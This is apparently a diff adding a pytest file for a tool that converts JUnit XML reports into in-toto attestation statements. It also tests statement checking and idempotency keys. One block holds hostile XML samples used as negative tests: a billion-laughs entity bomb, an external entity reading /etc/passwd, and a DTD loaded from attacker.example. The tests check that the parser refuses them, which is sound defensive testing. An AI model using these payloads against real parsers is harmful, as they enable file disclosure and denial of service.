@@ -1,0 +1,219 @@
+"""The JUnit converter of `evledger attest`, `check_statement` and the idempotency key.
+
+Fixtures are reports as real tools write them (tests/unit/fixtures): pytest
+--junitxml and a Maven Surefire TEST-*.xml. Negative cases are named after the
+attack or the defect. The SARIF converter is tested in test_attest_sarif.py.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+
+import msgspec
+import pytest
+from attest_support import DIGEST, FIXTURES, JUNIT_RUN, RUN, admitted, cases, junit, sarif
+
+from ledger.errors import EncodingError, InputError, TooLargeError
+from ledger.evidence.attest import (
+    MAX_REPORT_BYTES,
+    check_statement,
+    idempotency_key,
+    statement_from_junit,
+    statement_from_sarif,
+)
+from ledger.evidence.predicates import SCAN, TEST_RUN
+
+# JUnit
+
+
+@pytest.mark.parametrize(
+    ("fixture", "counts"),
+    [("junit-pytest.xml", (3, 2, 2)), ("junit-surefire.xml", (3, 2, 1))],
+)
+def test_junit_reports_from_real_tools(fixture, counts):
+    xml = (FIXTURES / fixture).read_bytes()
+    run = junit(xml)
+    assert (run.passed, run.failed, run.skipped) == counts
+    assert run.result == "failed"
+    assert run.report_digest == "sha256:" + hashlib.sha256(xml).hexdigest()
+    assert (run.suite, run.command, run.commit, run.environment) == ("regression", "pytest", "4f1c2a9", "ci")
+    assert run.report_location is None
+
+
+def test_surefire_flaky_test_that_passed_on_rerun_counts_as_passed():
+    run = junit(cases("<flakyFailure message='timeout'><stackTrace>x</stackTrace></flakyFailure>", ""))
+    assert (run.passed, run.failed, run.result) == (2, 0, "passed")
+
+
+def test_errors_count_as_failures_and_any_failure_fails_the_run():
+    run = junit(cases("", "<error message='setup'/>", "<skipped/>"))
+    assert (run.passed, run.failed, run.skipped, run.result) == (1, 1, 1, "failed")
+
+
+def test_all_passed_or_skipped_is_a_passed_run():
+    run = junit(cases("", "<system-out>ok</system-out>", "<skipped message='no GPU'/>"))
+    assert (run.passed, run.failed, run.skipped, run.result) == (2, 0, 1, "passed")
+
+
+def test_nested_suites_and_namespaced_elements_are_counted():
+    xml = (
+        b'<testsuites><testsuite name="a"><testsuite name="a.b">'
+        b'<testcase name="x"><failure/></testcase></testsuite>'
+        b'<testcase name="y"/></testsuite>'
+        b'<j:testsuite xmlns:j="urn:junit"><j:testcase name="z"><j:skipped/></j:testcase></j:testsuite>'
+        b"</testsuites>"
+    )
+    run = junit(xml)
+    assert (run.passed, run.failed, run.skipped) == (1, 1, 1)
+
+
+def test_report_location_and_uppercase_digest():
+    payload = statement_from_junit(
+        cases(""), **{**JUNIT_RUN, "subject_digest": DIGEST.upper().replace("SHA256", "sha256")},
+        report_location="https://ci.example.org/jobs/88412/report.xml",
+    )  # fmt: skip
+    run = admitted(payload, TEST_RUN)
+    assert run.report_location == "https://ci.example.org/jobs/88412/report.xml"
+
+
+def test_conversion_is_deterministic():
+    xml = (FIXTURES / "junit-pytest.xml").read_bytes()
+    assert statement_from_junit(xml, **JUNIT_RUN) == statement_from_junit(xml, **JUNIT_RUN)
+    statement = json.loads(statement_from_junit(xml, **JUNIT_RUN))
+    assert list(statement) == sorted(statement)
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        ({"suite": "smoke"}, "suite must be one of"),
+        ({"subject_digest": "4a5e1e4b"}, "sha256:<64 hex digits>"),
+        ({"subject_digest": "sha256:" + "g" * 64}, "sha256:<64 hex digits>"),
+        ({"subject_digest": "sha512:" + "a" * 128}, "sha256:<64 hex digits>"),
+        ({"product": " "}, "product must not be empty"),
+        ({"commit": ""}, "commit must not be empty"),
+        ({"subject_name": ""}, "subject name must not be empty"),
+    ],
+)
+def test_bad_arguments_are_refused(change, message):
+    with pytest.raises(InputError, match=message):
+        statement_from_junit(cases(""), **{**JUNIT_RUN, **change})
+
+
+@pytest.mark.parametrize(
+    ("xml", "message"),
+    [
+        (
+            b"<testsuite><testcase name='a'></testsuite>",
+            "JUnit XML report is not well-formed XML: mismatched tag",
+        ),
+        (b"", "JUnit XML report is not well-formed XML"),
+        (b"\xff\xfe<\x00", "not well-formed"),
+        (b"<html><body>502 Bad Gateway</body></html>", "root element is <html>"),
+        (b"<testsuites><testsuite name='empty' tests='0'/></testsuites>", "no <testcase> element"),
+    ],
+)
+def test_malformed_or_empty_junit_is_refused(xml, message):
+    with pytest.raises(EncodingError, match=message):
+        statement_from_junit(xml, **JUNIT_RUN)
+
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<testsuite><testcase name="&lol9;"/></testsuite>"""
+EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE testsuite [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<testsuite><testcase name="leak"><failure message="&secret;"/></testcase></testsuite>"""
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE testsuite SYSTEM "http://attacker.example/junit.dtd">
+<testsuite><testcase name="a"/></testsuite>"""
+
+
+@pytest.mark.parametrize(
+    "xml",
+    [
+        BILLION_LAUGHS,
+        EXTERNAL_ENTITY,
+        EXTERNAL_DTD,
+        EXTERNAL_ENTITY.decode().replace('"1.0"?', '"1.0" encoding="UTF-16"?').encode("utf-16"),
+    ],
+    ids=["billion-laughs", "external-entity", "external-dtd", "external-entity-in-utf16"],
+)
+def test_doctype_and_entity_declarations_are_refused(xml):
+    with pytest.raises(EncodingError, match="declares a DOCTYPE"):
+        statement_from_junit(xml, **JUNIT_RUN)
+
+
+def test_doctype_text_inside_cdata_is_only_text():
+    run = junit(cases("<system-out><![CDATA[<!DOCTYPE html><!ENTITY x 'y'>]]></system-out>"))
+    assert run.passed == 1
+
+
+def test_oversized_report_is_refused_before_parsing():
+    huge = b"<testsuite>" + b" " * MAX_REPORT_BYTES + b"</testsuite>"
+    with pytest.raises(TooLargeError, match="over the 20971520-byte limit"):
+        statement_from_junit(huge, **JUNIT_RUN)
+    with pytest.raises(TooLargeError):
+        statement_from_sarif(huge, **RUN)
+
+
+# check_statement and idempotency keys
+
+
+def test_check_statement_returns_the_bytes_unchanged():
+    payload = b' {"_type": "https://in-toto.io/Statement/v1", "subject": [{"digest": {"sha256": "ab"}}],\n'
+    payload += b' "predicateType": "https://example.org/sbom/v1", "predicate": {"anything": [1, 2]}} '
+    assert check_statement(payload) is payload
+    produced = statement_from_sarif(sarif([]), **RUN)
+    assert check_statement(produced) == produced
+
+
+@pytest.mark.parametrize(
+    ("predicate_type", "predicate", "message"),
+    [
+        (TEST_RUN, {"release": {"product": "p", "version": "1"}}, "test-run predicate is invalid"),
+        (SCAN, {"release": {"product": "p", "version": "1"}, "tool": "t", "tool_version": "1",
+                "findings": {"high": -1}}, "scan findings must be >= 0"),
+        ("https://evledger.dev/release-seal/v1", {"release": {"product": "p"}, "count": 0, "head": "0" * 64},
+         "release-seal predicate is invalid"),
+        ("https://example.org/generic/v1", {"release": {"product": ""}},
+         "product must be a non-empty string"),
+    ],
+)  # fmt: skip
+def test_check_statement_refuses_what_admission_refuses(predicate_type, predicate, message):
+    payload = msgspec.json.encode(
+        {
+            "_type": "https://in-toto.io/Statement/v1",
+            "subject": [{"name": "a", "digest": {"sha256": "ab" * 32}}],
+            "predicateType": predicate_type,
+            "predicate": predicate,
+        }
+    )
+    with pytest.raises(EncodingError, match=message):
+        check_statement(payload)
+
+
+def test_idempotency_key_names_the_evidence_not_the_attempt():
+    xml = (FIXTURES / "junit-pytest.xml").read_bytes()
+    payload = statement_from_junit(xml, **JUNIT_RUN)
+    key = idempotency_key(payload, xml)
+    assert key == idempotency_key(statement_from_junit(xml, **JUNIT_RUN), xml)
+    assert key.startswith("evledger-attest:test-run:")
+    assert key.isascii()
+    assert key.isprintable()
+    assert len(key) <= 200
+    other_report = cases("")
+    assert idempotency_key(statement_from_junit(other_report, **JUNIT_RUN), other_report) != key
+    other_subject = {**JUNIT_RUN, "subject_digest": "sha256:" + "0" * 64}
+    assert idempotency_key(statement_from_junit(xml, **other_subject), xml) != key
+    other_release = {**JUNIT_RUN, "version": "2.4.1"}
+    assert idempotency_key(statement_from_junit(xml, **other_release), xml) != key
+    sarif_log = (FIXTURES / "semgrep.sarif").read_bytes()
+    sarif_key = idempotency_key(statement_from_sarif(sarif_log, **RUN), sarif_log)
+    assert sarif_key.startswith("evledger-attest:scan:")
